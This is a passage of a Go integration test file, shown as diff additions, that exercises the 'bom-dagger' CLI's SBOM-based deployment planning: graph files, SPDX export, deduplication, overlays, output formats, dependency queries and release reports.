+	fromSBOM, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "json", "--timestamp", "2024-01-15T10:00:00Z")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	fromGraph, stderr, err := runBomDagger(t, "--from-graph", graphFile, "-o", "json", "--timestamp", "2024-01-15T10:00:00Z")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	// The provenance still names the SBOM the graph was built from
+	if fromGraph != fromSBOM {
+		t.Errorf("Expected the plan from the graph file to match the plan from the SBOM\nfrom graph:\n%s\nfrom SBOM:\n%s", fromGraph, fromSBOM)
+	}
+
+	for _, tt := range []struct {
+		name    string
+		args    []string
+		wantErr string
+	}{
+		{"not a graph file", []string{"--from-graph", sbomPath}, "not a bom-dagger graph file"},
+		{"with an input", []string{"--from-graph", graphFile, "-i", sbomPath}, "--input does not apply to --from-graph"},
+		{"other environment", []string{"--from-graph", graphFile, "--env", "prod"}, `--env prod does not match the graph`},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			_, stderr, err := runBomDagger(t, tt.args...)
+			if err == nil || !strings.Contains(stderr, tt.wantErr) {
+				t.Errorf("Expected an error containing %q, got %v\nStderr: %s", tt.wantErr, err, stderr)
+			}
+		})
+	}
+}
+
+func TestIntegrationSPDX(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "spdx", "--timestamp", "2024-01-15T10:00:00Z")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+
+	var doc struct {
+		SPDXVersion  string
+		Name         string
+		CreationInfo struct {
+			Created  string
+			Creators []string
+		}
+		Packages      []struct{ SPDXID, Name string }
+		Relationships []struct{ SpdxElementID, RelationshipType, RelatedSpdxElement string }
+	}
+	if err := json.Unmarshal([]byte(stdout), &doc); err != nil {
+		t.Fatalf("Output is not valid JSON: %v\n%s", err, stdout)
+	}
+	if doc.SPDXVersion != "SPDX-2.3" || doc.Name != "microservices-1.6" || doc.CreationInfo.Created != "2024-01-15T10:00:00Z" {
+		t.Errorf("Unexpected document fields: %+v", doc)
+	}
+	if len(doc.CreationInfo.Creators) != 1 || !strings.HasPrefix(doc.CreationInfo.Creators[0], "Tool: bom-dagger-") {
+		t.Errorf("Expected bom-dagger as the creator, got %q", doc.CreationInfo.Creators)
+	}
+	if len(doc.Packages) != 23 {
+		t.Errorf("Expected a package per component and service, got %d", len(doc.Packages))
+	}
+	found := false
+	for _, rel := range doc.Relationships {
+		if rel.SpdxElementID == "SPDXRef-user-service" && rel.RelationshipType == "DEPENDS_ON" && rel.RelatedSpdxElement == "SPDXRef-postgres-primary" {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("Expected user-service DEPENDS_ON postgres-primary, got %+v", doc.Relationships)
+	}
+}
+
+func TestIntegrationMergeDedupeByPurl(t *testing.T) {
+	shop := filepath.Join("..", "..", "testdata", "sboms", "dedupe-shop-1.6.json")
+	migrator := filepath.Join("..", "..", "testdata", "sboms", "dedupe-migrator-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", shop, "-i", migrator, "--dedupe-by", "purl")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "postgres (ref: pg-container, also known as docker.io/library/postgres:15.4)") {
+		t.Errorf("Expected postgres with its alias, got:\n%s", stdout)
+	}
+	if strings.Count(stdout, "postgres") != 2 {
+		t.Errorf("Expected a single postgres entry, got:\n%s", stdout)
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", shop, "-i", migrator)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if !strings.Contains(stdout, "postgres (ref: docker.io/library/postgres:15.4)") {
+		t.Errorf("Expected both postgres refs without --dedupe-by, got:\n%s", stdout)
+	}
+
+	// A command-line input replaces the environment default instead of adding to it
+	stdout, _, err = runBomDaggerEnv(t, []string{"BOM_DAGGER_INPUT=" + shop}, "-i", migrator)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if strings.Contains(stdout, "Shop") {
+		t.Errorf("Expected only the command-line SBOM, got:\n%s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", shop, "--dedupe-by", "name")
+	if err == nil || !strings.Contains(stderr, "invalid --dedupe-by") {
+		t.Errorf("Expected an invalid --dedupe-by error, got: %v\n%s", err, stderr)
+	}
+}
+
+func TestIntegrationNamespaceInputs(t *testing.T) {
+	payments := filepath.Join("..", "..", "testdata", "sboms", "team-payments-1.6.json")
+	orders := filepath.Join("..", "..", "testdata", "sboms", "team-orders-1.6.json")
+	link := filepath.Join("..", "..", "testdata", "overlays", "team-link-overlay.json")
+
+	// Both SBOMs use app, api and database; namespaced, none of them unify
+	stdout, stderr, err := runBomDagger(t, "-i", "payments="+payments, "-i", "orders="+orders, "--namespace-inputs", "-o", "json", "--stats")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var p struct {
+		Stats struct{ Components, Dependencies int }
+		Steps []struct {
+			Components []struct{ Ref, Name string }
+		}
+	}
+	if err := json.Unmarshal([]byte(stdout), &p); err != nil {
+		t.Fatalf("Expected a JSON plan: %v", err)
+	}
+	if p.Stats.Components != 7 || p.Stats.Dependencies != 5 || len(p.Steps) != 3 {
+		t.Errorf("Expected 7 components, 5 dependencies and 3 groups, got %+v with %d groups", p.Stats, len(p.Steps))
+	}
+	if got := p.Steps[0].Components; len(got) != 3 || got[0].Ref != "orders/database" || got[0].Name != "orders/PostgreSQL" || got[2].Ref != "payments/database" {
+		t.Errorf("Expected both databases, named with their namespace, in the first group, got %+v", got)
+	}
+	if strings.Contains(stderr, "merged") {
+		t.Errorf("Expected no dependency entries to merge, got: %s", stderr)
+	}
+
+	// An overlay links the namespaces; file names are the default namespaces
+	stdout, stderr, err = runBomDagger(t, "-i", payments, "-i", orders, "--namespace-inputs", "-g")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "  - team-payments-1.6/PostgreSQL (15.4)\n") {
+		t.Errorf("Expected the file name as the namespace, got:\n%s", stdout)
+	}
+	stdout, stderr, err = runBomDagger(t, "-i", "payments="+payments, "-i", "orders="+orders, "--namespace-inputs", "--overlay", link, "-g")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if strings.Count(stdout, "Group ") != 4 || !strings.Contains(stdout, "Group 3 (can deploy in parallel):\n  - orders/Orders API (1.3.0)\n") {
+		t.Errorf("Expected the orders API after the payments API, got:\n%s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", payments, "-i", payments, "--namespace-inputs")
+	if err == nil || !strings.Contains(stderr, `share the namespace "team-payments-1.6"`) {
+		t.Errorf("Expected clashing namespaces to be rejected, got: %s", stderr)
+	}
+}
+
+func TestIntegrationBOMDir(t *testing.T) {
+	app := filepath.Join("..", "..", "testdata", "sboms", "bomlink-app-1.6.json")
+	bomDir := filepath.Join("..", "..", "testdata", "bomlink")
+
+	stdout, stderr, err := runBomDagger(t, "-i", app, "--bom-dir", bomDir, "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var p struct {
+		Steps []struct {
+			Components []struct{ Ref string }
+		}
+	}
+	if err := json.Unmarshal([]byte(stdout), &p); err != nil {
+		t.Fatalf("Expected a JSON plan: %v", err)
+	}
+	step := make(map[string]int)
+	for i, s := range p.Steps {
+		for _, c := range s.Components {
+			step[c.Ref] = i + 1
+		}
+	}
+	// The linked platform components deploy before the shop that needs them;
+	// its own api keeps the ref and the platform's is named by its BOM-Link
+	platformAPI := "urn:cdx:6f1c2d4e-5a3b-4c7d-9e8f-0a1b2c3d4e5f/2#api"
+	for _, edge := range [][2]string{{"zookeeper", "kafka"}, {"kafka", "api"}, {"postgres", "api"}, {"postgres", platformAPI}, {platformAPI, "web"}} {
+		if step[edge[0]] == 0 || step[edge[0]] >= step[edge[1]] {
+			t.Errorf("Expected %s to deploy before %s, got steps %v", edge[0], edge[1], step)
+		}
+	}
+	if _, ok := step["grafana"]; ok {
+		t.Errorf("Expected grafana, which nothing links to, to stay out of the plan, got %v", step)
+	}
+	if !strings.Contains(stderr, "W025_UNRESOLVED_BOM_LINK") || !strings.Contains(stderr, "urn:cdx:0e2f4a6c-8b1d-4f3e-9a5c-7d9e1b3f5a7c/1#redis") {
+		t.Errorf("Expected the unresolvable link to be reported with its URN, got: %s", stderr)
+	}
+	if strings.Contains(stderr, "W001_DANGLING_REF") {
+		t.Errorf("Expected the unresolvable link to be reported once, got: %s", stderr)
+	}
+
+	// Without --bom-dir every link is an unknown ref
+	stdout, _, err = runBomDagger(t, "-i", app, "-o", "json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(stdout, "zookeeper") {
+		t.Error("Expected links to stay unresolved without --bom-dir")
+	}
+
+	if _, stderr, err := runBomDagger(t, "-i", app, "--bom-dir", filepath.Join(bomDir, "missing")); err == nil || !strings.Contains(stderr, "loading --bom-dir") {
+		t.Errorf("Expected a missing --bom-dir to fail, got %v: %s", err, stderr)
+	}
+}
+
+func TestIntegrationOverlay(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "services-1.6.json")
+	overlayPath := filepath.Join("..", "..", "testdata", "overlays", "services-overlay.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-g")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if strings.Index(stdout, "PostgreSQL") > strings.Index(stdout, "Group 2") {
+		t.Errorf("Expected PostgreSQL in group 1 without overlay\nGot: %s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-g", "--overlay", overlayPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	// The overlay makes the database wait for the cache and drops the auth service
+	if strings.Index(stdout, "PostgreSQL") < strings.Index(stdout, "Group 2") {
+		t.Errorf("Expected PostgreSQL to move after the cache with overlay\nGot: %s", stdout)
+	}
+	if strings.Contains(stdout, "Authentication Service") {
+		t.Errorf("Expected excluded auth service to be absent\nGot: %s", stdout)
+	}
+
+	conflictPath := filepath.Join(t.TempDir(), "conflict.json")
+	conflict := `{"addDependencies": [{"ref": "api-service", "dependsOn": ["database"]}], "excludeRefs": ["database"]}`
+	if err := os.WriteFile(conflictPath, []byte(conflict), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--overlay", conflictPath)
+	if err == nil {
+		t.Error("Expected conflicting overlay to fail")
+	}
+	if !strings.Contains(stderr, "overlay conflict: database is excluded") {
+		t.Errorf("Expected conflict message, got: %s", stderr)
+	}
+}
+
+func TestIntegrationTree(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "tree", "--from", "api-a")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	want := "API A (ref: api-a)\n└── Application (ref: app)\n"
+	if stdout != want {
+		t.Errorf("Unexpected tree\nGot:\n%s\nWant:\n%s", stdout, want)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "tree", "--from", "missing")
+	if err == nil {
+		t.Error("Expected error for unknown --from ref")
+	}
+	if !strings.Contains(stderr, "unknown node: missing") {
+		t.Errorf("Expected unknown node error, got: %s", stderr)
+	}
+}
+
+func TestIntegrationLabelTemplate(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "mermaid", "--label-template", `{{.Ref}} "{{.Name}}"`)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.HasPrefix(stdout, "flowchart BT\n") || !strings.Contains(stdout, `["api-a #quot;API A#quot;"]`) {
+		t.Errorf("Unexpected Mermaid output:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "tree", "--from", "api-a", "--label-template", "{{.Name}}")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if want := "API A\n└── Application\n"; stdout != want {
+		t.Errorf("Unexpected tree\nGot:\n%s\nWant:\n%s", stdout, want)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", "missing.json", "-o", "dot", "--label-template", "{{.Name")
+	if err == nil {
+		t.Error("Expected error for invalid --label-template")
+	}
+	if !strings.Contains(stderr, "invalid label template") || strings.Contains(stderr, "parsing SBOM") {
+		t.Errorf("Expected template error before parsing the SBOM, got: %s", stderr)
+	}
+}
+
+func TestIntegrationClusterBy(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "groups-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "dot", "--cluster-by", "group")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if count := strings.Count(stdout, "subgraph \"cluster_"); count != 4 {
+		t.Errorf("Expected 4 clusters (three groups and ungrouped), got %d:\n%s", count, stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-s")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{"Components by Group:", "  com.example.payments  2\n", "  org.acme              1\n", "  (ungrouped)           2\n"} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in statistics, got:\n%s", want, stdout)
+		}
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "dot", "--cluster-by", "group,step")
+	if err == nil {
+		t.Error("Expected error when combining group and step clustering")
+	}
+	if !strings.Contains(stderr, "mutually exclusive") {
+		t.Errorf("Expected mutually exclusive error, got: %s", stderr)
+	}
+}
+
+func TestIntegrationStepSelection(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	tests := []struct {
+		name    string
+		args    []string
+		want    []string
+		notWant []string
+	}{
+		{
+			name:    "single step",
+			args:    []string{"--steps", "2"},
+			want:    []string{"Step 2:", "API A (ref: api-a)", "API B (ref: api-b)"},
+			notWant: []string{"Step 1:", "Step 3:"},
+		},
+		{
+			name:    "open-ended range",
+			args:    []string{"--steps", "2-"},
+			want:    []string{"Step 2:", "Step 3:", "Application (ref: app)"},
+			notWant: []string{"Step 1:"},
+		},
+		{
+			name:    "top",
+			args:    []string{"--top", "2"},
+			want:    []string{"Step 1:", "Database (ref: db)", "Step 2:", "API A (ref: api-a)"},
+			notWant: []string{"api-b", "Step 3:"},
+		},
+		{
+			name:    "reverse",
+			args:    []string{"-r", "--steps", "1-2"},
+			want:    []string{"Teardown Order", "Step 1:", "Application (ref: app)", "Step 2:", "API A (ref: api-a)"},
+			notWant: []string{"Step 3:", "db"},
+		},
+		{
+			name:    "groups",
+			args:    []string{"-g", "--steps", "3"},
+			want:    []string{"Group 3 (can deploy in parallel):", "Application (1.0.0)"},
+			notWant: []string{"Group 1", "Group 2"},
+		},
+		{
+			name:    "json",
+			args:    []string{"-o", "json", "--steps", "1"},
+			want:    []string{`"ref": "db"`},
+			notWant: []string{`"ref": "app"`},
+		},
+		{
+			name: "stats stay global",
+			args: []string{"-s", "--steps", "3"},
+			want: []string{"Total Components: 4", "Application (ref: app)"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			stdout, stderr, err := runBomDagger(t, append([]string{"-i", sbomPath}, tt.args...)...)
+			if err != nil {
+				t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+			}
+			for _, want := range tt.want {
+				if !strings.Contains(stdout, want) {
+					t.Errorf("Expected output to contain %q\nGot:\n%s", want, stdout)
+				}
+			}
+			for _, notWant := range tt.notWant {
+				if strings.Contains(stdout, notWant) {
+					t.Errorf("Expected output not to contain %q\nGot:\n%s", notWant, stdout)
+				}
+			}
+		})
+	}
+
+	for _, steps := range []string{"3-1", "x", "5"} {
+		_, stderr, err := runBomDagger(t, "-i", sbomPath, "--steps", steps)
+		if err == nil {
+			t.Errorf("Expected error for --steps %s", steps)
+		}
+		if !strings.Contains(stderr, "step range") {
+			t.Errorf("Expected step range error for --steps %s, got: %s", steps, stderr)
+		}
+	}
+}
+
+func TestIntegrationShell(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "shell")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.HasPrefix(stdout, "#!/usr/bin/env bash\n") || !strings.Contains(stdout, "set -euo pipefail") {
+		t.Errorf("Expected a bash script, got:\n%s", stdout)
+	}
+	if strings.Index(stdout, "Deploying Database") > strings.Index(stdout, "Deploying Application") {
+		t.Errorf("Expected the database to deploy before the application:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "shell", "--reverse")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if strings.Index(stdout, "Tearing down Application") > strings.Index(stdout, "Tearing down Database") {
+		t.Errorf("Expected the application to be torn down before the database:\n%s", stdout)
+	}
+}
+
+func TestIntegrationAdjacency(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "adjacency", "--direction", "dependents")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var doc struct {
+		Nodes      []map[string]any    `json:"nodes"`
+		Edges      []map[string]string `json:"edges"`
+		Dependents map[string][]string `json:"dependents"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &doc); err != nil {
+		t.Fatalf("Invalid JSON: %v\n%s", err, stdout)
+	}
+	if len(doc.Nodes) == 0 || len(doc.Dependents) != len(doc.Nodes) {
+		t.Errorf("Expected a dependents entry per node, got %v", doc.Dependents)
+	}
+	if doc.Edges != nil {
+		t.Errorf("Expected no edges with --direction dependents, got %v", doc.Edges)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "adjacency", "--direction", "sideways")
+	if err == nil || !strings.Contains(stderr, "invalid --direction") {
+		t.Errorf("Expected an invalid --direction error, got: %s", stderr)
+	}
+}
+
+func TestIntegrationPruneLeaves(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "prune-leaves-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s", "-g", "--prune-leaves-of-type", "library, file,operating-system")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{"Total Components: 5\n", "Pruned Components: 15", "gRPC (1.62.0)"} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in output, got:\n%s", want, stdout)
+		}
+	}
+	if strings.Contains(stdout, "libc6") {
+		t.Errorf("Expected OS packages to be pruned, got:\n%s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--prune-leaves-of-type", "library,,file")
+	if err == nil || !strings.Contains(stderr, "empty type") {
+		t.Errorf("Expected an empty type error, got: %s", stderr)
+	}
+}
+
+func TestIntegrationWhy(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	tests := []struct {
+		args []string
+		want string
+	}{
+		{[]string{"--why", "app:db"}, "app comes after db because of 2 dependency paths:\n  app -> api-a -> db\n  app -> api-b -> db\n"},
+		{[]string{"--why", "app:db", "--max-paths", "1"}, "app comes after db because of 1 dependency path:\n  app -> api-a -> db\n(more paths exist; raise --max-paths to see them)\n"},
+		{[]string{"--why", "api-a:api-b"}, "api-a does not depend on api-b; their relative order is incidental\n"},
+		{[]string{"--why", "db:app"}, "db does not depend on app; app depends on db, so db comes first (see --why app:db)\n"},
+		{[]string{"--why", "db:db"}, "db and db are the same component\n"},
+	}
+	for _, tt := range tests {
+		stdout, stderr, err := runBomDagger(t, append([]string{"-i", sbomPath}, tt.args...)...)
+		if err != nil {
+			t.Fatalf("%v: unexpected error: %v\nStderr: %s", tt.args, err, stderr)
+		}
+		if stdout != tt.want {
+			t.Errorf("%v\nGot:\n%s\nWant:\n%s", tt.args, stdout, tt.want)
+		}
+	}
+
+	_, stderr, err := runBomDagger(t, "-i", sbomPath, "--why", "app-db")
+	if err == nil || !strings.Contains(stderr, "expected from-ref:to-ref") {
+		t.Errorf("Expected a --why format error, got: %s", stderr)
+	}
+}
+
+func TestIntegrationSimulateRemoval(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--simulate-removal", "kafka")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"Would lose a dependency: 4\n  analytics-service\n  notification-service\n  order-service\n  payment-service\n",
+		"Would become unreachable: 1\n  zookeeper\n",
+		"Dangling dependency entries: 4\n  analytics-service -> kafka\n",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in the report, got:\n%s", want, stdout)
+		}
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--simulate-removal", "postgres-primary", "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var impact struct {
+		Dependents  []string
+		Unreachable []string
+		Dangling    []struct{ From, To string }
+	}
+	if err := json.Unmarshal([]byte(stdout), &impact); err != nil {
+		t.Fatalf("Expected JSON output: %v\n%s", err, stdout)
+	}
+	want := []string{"auth-service", "order-service", "payment-service", "postgres-replica", "user-service"}
+	if !reflect.DeepEqual(impact.Dependents, want) || len(impact.Unreachable) != 0 || len(impact.Dangling) != 5 {
+		t.Errorf("Unexpected impact: %+v", impact)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--simulate-removal", "missing")
+	if err == nil || !strings.Contains(stderr, "unknown node: missing") {
+		t.Errorf("Expected an unknown ref to be rejected, got: %s", stderr)
+	}
+}
+
+func TestIntegrationNeighborhood(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--rdeps", "kafka", "--depth", "2")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"=== Dependents of kafka ===\n",
+		"0      Apache Kafka              kafka\n",
+		"2      API Gateway               api-gateway\n",
+		"7 dependents within 2 hops\n",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q, got:\n%s", want, stdout)
+		}
+	}
+	if strings.Contains(stdout, "frontend-web") {
+		t.Errorf("Expected --depth 2 to stop before the frontends, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--deps", "order-service", "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var neighbors []struct {
+		Ref   string
+		Depth int
+	}
+	if err := json.Unmarshal([]byte(stdout), &neighbors); err != nil {
+		t.Fatalf("Expected JSON output: %v\n%s", err, stdout)
+	}
+	depths := make(map[string]int)
+	for _, n := range neighbors {
+		depths[n.Ref] = n.Depth
+	}
+	want := map[string]int{"order-service": 0, "kafka": 1, "notification-service": 1, "payment-service": 1,
+		"postgres-primary": 1, "redis-master": 2, "zookeeper": 2}
+	if len(neighbors) != len(want) || !reflect.DeepEqual(depths, want) {
+		t.Errorf("Expected %v, got %+v", want, neighbors)
+	}
+
+	// An explicit --depth 0 is the component alone, not unlimited
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--deps", "order-service", "--depth", "0", "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if err := json.Unmarshal([]byte(stdout), &neighbors); err != nil || len(neighbors) != 1 || neighbors[0].Ref != "order-service" {
+		t.Errorf("Expected only order-service with --depth 0, got %s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--deps", "missing")
+	if err == nil || !strings.Contains(stderr, "invalid --deps: unknown node: missing") {
+		t.Errorf("Expected an unknown ref to be rejected, got: %s", stderr)
+	}
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--deps", "kafka", "--rdeps", "kafka")
+	if err == nil || !strings.Contains(stderr, "mutually exclusive") {
+		t.Errorf("Expected --deps with --rdeps to be rejected, got: %s", stderr)
+	}
+}
+
+func TestIntegrationReleaseReport(t *testing.T) {
+	baseline := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+	diamond := string(mustReadFile(t, baseline))
+	release := func(t *testing.T, old, new string) [][]string {
+		t.Helper()
+		current := filepath.Join(t.TempDir(), "current.json")
+		if err := os.WriteFile(current, []byte(strings.Replace(diamond, old, new, 1)), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		stdout, stderr, err := runBomDagger(t, "-i", current, "--baseline", baseline, "-o", "release-report-json")
+		if err != nil {
+			t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+		}
+		var report struct {
+			Steps []struct {
+				Components []struct{ Ref string }
+			}
+		}
+		if err := json.Unmarshal([]byte(stdout), &report); err != nil {
+			t.Fatalf("Expected a JSON report: %v", err)
+		}
+		var steps [][]string
+		for _, step := range report.Steps {
+			var refs []string
+			for _, c := range step.Components {
+				refs = append(refs, c.Ref)
+			}
+			steps = append(steps, refs)
+		}
+		return steps
+	}
+
+	// Nothing depends on the application, so it is redeployed alone
+	if got := release(t, `"version": "1.0.0"`, `"version": "1.0.1"`); !reflect.DeepEqual(got, [][]string{{"app"}}) {
+		t.Errorf("Expected a leaf change to redeploy only the leaf, got %v", got)
+	}
+	// Everything depends on the database
+	if got, want := release(t, `"version": "15.0"`, `"version": "16.0"`), [][]string{{"db"}, {"api-a", "api-b"}, {"app"}}; !reflect.DeepEqual(got, want) {
+		t.Errorf("Expected a root change to redeploy the whole plan %v, got %v", want, got)
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", baseline, "--baseline", baseline, "-o", "release-report")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "No components changed since the baseline.") {
+		t.Errorf("Expected an empty report, got:\n%s", stdout)
+	}
+	if _, stderr, err := runBomDagger(t, "-i", baseline, "-o", "release-report"); err == nil || !strings.Contains(stderr, "--baseline") {
+		t.Errorf("Expected the report to require --baseline, got %v: %s", err, stderr)
+	}
+	if _, stderr, err := runBomDagger(t, "-i", baseline, "--baseline", baseline); err == nil || !strings.Contains(stderr, "--baseline only applies") {
+		t.Errorf("Expected --baseline to require the report, got %v: %s", err, stderr)
+	}
+}
+
+func TestIntegrationSearch(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--search", "REDIS*")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	want := "Redis Master 7.2.0 (ref: redis-master, library): step 1, 0 dependencies, 6 dependents\n" +
+		"Redis Slave 7.2.0 (ref: redis-slave, library): step 2, 1 dependency, 0 dependents\n"
+	if stdout != want {
+		t.Errorf("Expected:\n%s\ngot:\n%s", want, stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--search", "re:^postgres|mongo", "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var matches []struct {
+		Ref  string
+		Step int
+	}
+	if err := json.Unmarshal([]byte(stdout), &matches); err != nil {
+		t.Fatalf("Expected JSON output: %v\n%s", err, stdout)
+	}
+	if len(matches) != 3 || matches[0].Ref != "mongodb" || matches[2].Ref != "postgres-replica" || matches[2].Step != 2 {
+		t.Errorf("Unexpected matches: %+v", matches)
+	}
+
+	// Case-sensitive patterns and empty results
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--search", "REDIS*", "--case-sensitive")
+	if err != nil || stdout != "" || !strings.Contains(stderr, `no matches for "REDIS*"`) {
+		t.Errorf("Expected a notice and success without matches, got err %v, stdout %q, stderr %q", err, stdout, stderr)
+	}
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--search", "nothing*", "--fail-if-empty")
+	if err == nil || !strings.Contains(stderr, "no matches") {
+		t.Errorf("Expected --fail-if-empty to fail without matches, got err %v, stderr %q", err, stderr)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--search", "re:(redis")
+	if err == nil || !strings.Contains(stderr, `invalid --search: invalid regular expression "(redis": missing closing )`) {
+		t.Errorf("Expected an invalid regex to be rejected, got: %s", stderr)
+	}
+}
+
+func TestIntegrationCompareGroups(t *testing.T) {
+	dir := t.TempDir()
+	writeSBOM := func(name, dependencies string) string {
+		path := filepath.Join(dir, name)
